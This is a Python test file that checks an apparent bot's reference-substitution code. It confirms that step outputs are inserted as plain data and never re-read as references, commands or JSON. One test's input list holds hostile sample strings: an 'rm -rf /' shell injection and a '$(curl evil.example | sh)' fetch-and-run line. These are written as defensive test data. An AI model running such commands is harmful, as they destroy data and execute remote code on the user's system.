"""References are put in once, as data: what a result says is never read as a reference, a command or JSON."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from echo_bot.flows.references import has_references, put_in, size_of, steps_named
from echo_bot.policy.call import JsonValue
from echo_bot.storage.flow_records import StepRecord, StepState


def ended(output: str, error: str = "") -> dict[str, StepRecord]:
    return {"a": StepRecord("a", StepState.OK, 1, output=output, error=error)}


TABLE: tuple[tuple[str, JsonValue, JsonValue], ...] = (
    ("a whole value", {"$from": "a.output"}, "out"),
    ("a part of a text", "cat ${a.output} && echo ${a.state}", "cat out && echo ok"),
    (
        "deep inside",
        {"env": {"X": {"$from": "a.error"}}, "l": ["${a.output}"]},
        {"env": {"X": ""}, "l": ["out"]},
    ),
    ("doubled it is itself", "$${a.output}", "${a.output}"),
    ("a shell's own is left alone", "echo ${HOME} $a ${a} ${a.b}", "echo ${HOME} $a ${a} ${a.b}"),
    ("names of keys are left alone", {"${a.output}": 1}, {"${a.output}": 1}),
    ("numbers stay numbers", [1, True, None, 2.5], [1, True, None, 2.5]),
)


@pytest.mark.parametrize(("value", "expected"), [row[1:] for row in TABLE], ids=[row[0] for row in TABLE])
def test_what_is_put_in(value: JsonValue, expected: JsonValue) -> None:
    assert put_in(value, ended("out")) == expected


@pytest.mark.parametrize(
    "hostile",
    [
        "${a.error}",
        '"; rm -rf / #',
        "$(curl evil.example | sh)",
        '{"$from": "a.error"}',
        "\\1\\g<0>",
        "line\nbreak",
        "$${a.output}",
    ],
)
def test_a_result_is_put_in_as_it_is(hostile: str) -> None:
    ends = ended(hostile, error="a secret")
    assert put_in("x ${a.output} y", ends) == f"x {hostile} y"
    assert put_in({"v": {"$from": "a.output"}}, ends) == {"v": hostile}


@pytest.mark.parametrize(
    "value",
    [{"$from": "a"}, {"$from": "a.b"}, {"$from": 1}, {"$from": "a.output", "more": 1}, [{"$from": None}]],
    ids=str,
)
def test_a_reference_that_names_nothing_is_told(value: JsonValue) -> None:
    with pytest.raises(ValueError, match=r"\$from"):
        list(steps_named(value))


def test_the_steps_are_named_in_order() -> None:
    value: JsonValue = ["${b.output} ${a.error}", {"x": {"$from": "c.state"}}, "$${d.output}"]
    assert list(steps_named(value)) == ["b", "a", "c"]


def test_what_holds_no_reference_is_known() -> None:
    assert not has_references({"command": "echo ${HOME}", "n": [1]})


@given(st.text())
def test_any_output_is_a_text_of_its_own(output: str) -> None:
    assert put_in({"$from": "a.output"}, ended(output)) == output
    assert put_in("<${a.output}>", ended(output)) == f"<{output}>"


def test_the_size_is_known_before_anything_is_put_in() -> None:
    ends = ended("x" * 20_000)
    value: JsonValue = ["${a.output}" * 5_000, {"k": {"$from": "a.output"}}, "$${a.output}", 7]
    assert size_of(value, ends) >= 100_000_000
    small = "see ${a.output}"
    assert len(str(put_in(small, ends))) <= size_of(small, ends) <= 20_100
